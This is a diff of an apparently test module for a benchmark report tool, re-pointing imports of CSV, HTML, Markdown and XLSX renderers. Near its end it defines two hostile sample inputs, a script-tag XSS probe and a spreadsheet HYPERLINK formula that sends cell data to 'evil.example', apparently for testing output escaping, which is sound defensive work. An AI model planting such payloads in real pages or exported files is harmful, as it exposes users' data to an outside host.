@@ -24,11 +24,11 @@ from arraybench.report.model import (
     Timeline,
     WorkloadSection,
 )
+from arraybench.report.render.csv.points import points_csv
 from arraybench.report.render.escape import for_spreadsheet
-from arraybench.report.render.export import points_csv
-from arraybench.report.render.html import render_html
-from arraybench.report.render.markdown import render_markdown
-from arraybench.report.render.xlsx import write_xlsx
+from arraybench.report.render.html.page import render_html
+from arraybench.report.render.markdown.page import render_markdown
+from arraybench.report.render.xlsx.workbook import write_xlsx
 
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
